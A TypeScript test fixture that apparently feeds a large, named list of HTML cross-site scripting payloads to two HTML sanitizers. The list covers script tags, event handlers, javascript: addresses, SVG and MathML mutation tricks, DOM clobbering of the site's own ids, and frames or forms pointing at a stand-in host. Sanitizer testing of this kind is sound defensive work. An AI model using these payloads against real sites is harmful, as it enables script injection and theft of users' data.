const image = '<img src=x onerror=alert(1)>';

/**
 * HTML attacks by name: the kinds of OWASP's and Cure53's collections, in our own words. The tests run both cleaners on
 * all of them; {@link harmIn} lists what is left.
 */
export const HTML_ATTACKS: readonly (readonly [name: string, html: string])[] = [
  // Scripts, plain and disguised.
  ['a script', '<script>alert(1)</script>'],
  ['a script in capitals', '<SCRIPT SRC=//vi-du.example/x.js></SCRIPT>'],
  ['a script that is never closed', '<script>alert(1)'],
  ['a script put together by taking one out', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
  ['a script after a broken tag', '<<script>alert(1);//<</script>'],
  ['a script with a slash for a space', '<script/x>alert(1)</script/x>'],
  ['a script behind a null character', '<scr\0ipt>alert(1)</scr\0ipt>'],
  ['a script as text that is decoded twice', '&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;<b>&lt;script&gt;'],
  // Handlers.
  ['a handler of a picture', image],
  ['a handler behind a slash', '<img/src="x"/onerror=alert(1)>'],
  ['a handler in capitals, with line breaks', '<img src=x\nONERROR\n=\nalert(1)>'],
  ['a handler in backticks', '<img src="x` `<script>alert(1)</script>"` `>'],
  ['a handler behind a quote that was never opened', '<img src="x"" onerror="alert(1)">'],
  ['a handler behind an equals sign', '<p =onclick=alert(1) x>a</p><p a=">"onclick=alert(1)>b</p>'],
  ['handlers of anything', '<b onmouseover=alert(1)>a</b><p onpointerenter=alert(1)>b</p><td onfocus=alert(1)>c'],
  ['handlers of transitions and animations', '<p onanimationstart=alert(1) ontransitionend=alert(1)>x</p>'],
  ['an opened details', '<details open ontoggle=alert(1)>x</details><marquee onstart=alert(1)>x</marquee>'],
  ['a video', '<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)></audio>'],
  ['a focus that comes by itself', '<input autofocus onfocus=alert(1)><p tabindex=1 autofocus onfocus=alert(1)>x</p>'],
  // Addresses that run code.
  ['an address that runs', '<a href="javascript:alert(1)">x</a>'],
  ['one in mixed case', '<a href="JaVaScRiPt:alert(1)">x</a>'],
  ['one with a tab inside', '<a href="java\tscript:alert(1)">x</a>'],
  ['one with line breaks inside', '<a href="java\r\nscript\n:alert(1)">x</a>'],
  ['one with character references', '<a href="&#106;avascript&colon;alert(1)">x</a>'],
  ['one with references without a semicolon', '<a href="&#0000106&#0000097vascript:alert(1)">x</a>'],
  ['one behind a control character', '<a href=" \u0001javascript:alert(1)">x</a>'],
  ['one with a comment', '<a href="jav<!-- -->ascript:alert(1)">x</a>'],
  ['one of Visual Basic', '<a href="vbscript:msgbox(1)">x</a>'],
  ['a page in an address', '<a href="data:text/html,<script>alert(1)</script>">x</a>'],
  ['a page of another scheme', '<a href="blob:https://vi-du.example/1">x</a><a href="filesystem:x">y</a>'],
  ['a picture that runs', '<img src=javascript:alert(1)>'],
  ['a drawing in an address', '<img src="data:image/svg+xml,<svg onload=alert(1)>">'],
  ['sources by width', '<img srcset="javascript:alert(1) 1x, x 2x" src="/media/a.svg">'],
  ['an address that tells of the click', '<a ping="https://vi-du.example" href="/">x</a>'],
  ['an address that saves a file', '<a download="x.exe" href="/">x</a>'],
  // SVG and MathML, which parse by other rules.
  ['a script in a drawing', '<svg><script>alert(1)</script></svg>'],
  ['a drawing that loads', '<svg onload=alert(1)>'],
  ['a link in a drawing', '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>'],
  [
    'an animation that sets a link',
    '<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a>',
  ],
  ['a use of another drawing', '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"></use></svg>'],
  ['HTML in a drawing', `<svg><foreignObject><p>${image}</p></foreignObject></svg>`],
  ['a formula with a link', '<math><mi//xlink:href="data:x,<script>alert(4)</script>">'],
  [
    'a formula with an action',
    '<math><maction actiontype="statusline#http://x" href="javascript:alert(1)">x</maction>',
  ],
  // Harmless when parsed once, but not when the result is parsed again.
  [
    'a style in a formula',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  ],
  ['two forms and a formula', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>'],
  ['a style in a drawing', '<svg></p><style><a title="</style><img src=x onerror=alert(1)>">'],
  ['a title in a drawing', '<svg><title><style><img title="</style><img src=x onerror=alert(1)>"></title></svg>'],
  ['a noscript', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'],
  ['a noscript in a paragraph', '<p><noscript><style></noscript><img src=x onerror=alert(1)></style>'],
  ['a template', '<template><script>alert(1)</script></template>'],
  ['a text area', '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>'],
  ['an xmp', '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>'],
  ['a plaintext', `<plaintext><p>${image}`],
  [
    'a noembed and a noframes',
    '<noembed><p title="</noembed><img src=x onerror=alert(1)>"><noframes><b title="</noframes><img src=x onerror=alert(1)>">',
  ],
  ['a title', '<title><p title="</title><img src=x onerror=alert(1)>"></title>'],
  ['a select', `<select><option><style></option></select>${image}</style>`],
  [
    'a frame with text that is none',
    '<iframe src="https://www.youtube-nocookie.com/embed/x"><p title="</iframe><img src=x onerror=alert(1)>"></iframe>',
  ],
  [
    'a frame with references inside',
    '<iframe src="https://www.youtube-nocookie.com/embed/x">&lt;/iframe&gt;&lt;img src=x onerror=alert(1)&gt;</iframe>',
  ],
  ['a comment that ends early', '<!--<img src="--><img src=x onerror=alert(1)//">'],
  ['a comment that ends with a bang', `<!-- --!>${image} -->`],
  ['a comment that ends at once', `<!-->${image}<!--->${image}-->`],
  ['an instruction', `<?xml version="1.0"?>${image}<?php ><img src=x onerror=alert(1)> ?>`],
  ['a section that is only one in XML', `<![CDATA[>${image}]]>`],
  ['a closing tag with attributes', '</p onclick=alert(1)><br/ onclick=alert(1)>'],
  ['deep nesting', `${'<p>'.repeat(300)}${image}`],
  ['nesting so deep that browsers flatten it', `${'<div>'.repeat(600)}<table><caption>${image}`],
  ['tables in each other', `<table><tr><td><table><a href=/x><table><a href=/y>${image}</table>`],
  ['a row without a table', `<tr><td>x</td></tr><caption>${image}</caption><col><li>x`],
  ['links in each other', '<a href="/a"><p><a href="javascript:alert(1)">x</a></p></a>'],
  // Frames, documents, forms.
  ['a frame of another site', '<iframe src="https://vi-du.example"></iframe>'],
  ['a frame with its own page', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  [
    'a frame of a known host and its own page',
    '<iframe src="https://player.vimeo.com/video/1" srcdoc="<script>alert(1)</script>"></iframe>',
  ],
  ['a frame that runs', '<iframe src="javascript:alert(1)"></iframe>'],
  [
    'a frame whose host only looks known',
    '<iframe src="https://www.youtube-nocookie.com.vi-du.example/x"></iframe><iframe src="https://www.youtube-nocookie.com@vi-du.example/"></iframe>',
  ],
  ['a frame of a known host on another port', '<iframe src="https://www.youtube-nocookie.com:8443/embed/x"></iframe>'],
  [
    'a frame that asks for more than it may',
    '<iframe src="https://player.vimeo.com/video/1" sandbox="allow-top-navigation allow-forms" allow="camera" name="tyso__mfe_ads" onload=alert(1) style="position:fixed"></iframe>',
  ],
  [
    'an old frame',
    '<frameset><frame src="javascript:alert(1)"></frameset><applet code=x></applet><layer src=x></layer>',
  ],
  ['objects', '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)"><portal src=x></portal>'],
  [
    'a form',
    '<form action="javascript:alert(1)"><input type=submit><button formaction="javascript:alert(1)">x</button></form>',
  ],
  [
    'a form for passwords',
    '<form action="https://vi-du.example"><input name=password type=password><select><option>x</form>',
  ],
  [
    'what belongs in the head',
    '<base href="https://vi-du.example/"><link rel=stylesheet href=x><meta http-equiv=refresh content="0;url=x">',
  ],
  [
    'a whole page',
    `<html onload=alert(1)><head><title>x</title></head><body onload=alert(1) background=x>${image}</body></html>`,
  ],
  ['a dialog over the page', '<dialog open>x</dialog><p popover>x</p><button popovertarget=x>y</button>'],
  // Styles.
  ['a style over the page', '<p style="position:fixed;inset:0">x</p><style>*{display:none}</style>'],
  [
    'a style that loads',
    '<p style="background:url(https://vi-du.example/x)">x</p><style>@import "https://vi-du.example/x";</style>',
  ],
  ['old backgrounds', '<table background="javascript:alert(1)"><tr><td background=x>1</td></tr></table>'],
  ['a class of the page', '<p class="x">x</p><div class="site-overlay" hidden contenteditable>y</div>'],
  [
    'elements of our own making',
    '<p is="x-element">x</p><x-element onclick=alert(1)>x</x-element><slot name=x></slot>',
  ],
  // Names that shadow what scripts look for.
  [
    'the names of our remotes as ids',
    '<div id="tyso__mfe_scores"></div><p id=tyso__shell></p><section id="tyso__mfe_articles">x</section>',
  ],
  [
    'the names of our remotes as names',
    '<a name="tyso__mfe_scores" href="/"></a><img name="tyso__mfe_ads" src="/media/a.svg">',
  ],
  ['the data of our page', '<div id="live"></div><p id="site">{}</p><div id="root"></div><div id="app"></div>'],
  ['the federation', '<a id="__FEDERATION__"></a><a id="__FEDERATION__" name="__INSTANCES__" href="x:y">x</a>'],
  [
    "the document's own names",
    '<form id=document><input name=cookie><img name=body src=/media/x.svg><a name=getElementById>x</a>',
  ],
  ['names in each other', '<form id=a><output id=b name=c>x</output></form><form id=a name=d></form>'],
  [
    'the prototype',
    '<a id="__proto__">x</a><p id="constructor" __proto__="x">y</p><img name=toString src=/media/x.svg>',
  ],
  ['a part and a slot of a component', '<p part="x" slot="y" exportparts="z" itemref="tyso__mfe_scores">x</p>'],
];
